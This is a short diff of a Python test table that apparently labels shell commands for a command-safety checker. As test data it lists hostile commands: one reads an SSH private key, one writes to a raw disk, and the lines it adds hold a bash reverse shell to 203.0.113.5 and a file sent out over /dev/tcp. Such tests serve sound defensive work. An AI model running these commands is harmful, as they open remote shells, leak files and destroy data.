@@ -62,7 +62,8 @@ CASES: dict[str, list[tuple[str, str]]] = {
         ("echo x > /etc/hosts", R),
         ("echo x > /dev/sda", X),
         ("cat < ~/.ssh/id_rsa", R),
-        ("exec 3<>/dev/tcp/example.org/80", R),
+        ("exec 3<>/dev/tcp/example.org/80", C), ("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", R),
+        ("cat README.md > /dev/tcp/203.0.113.5/80", R),
         ("cat < /dev/tcp/127.0.0.1/8080", C),
     ],
     "quoting-and-paths": [
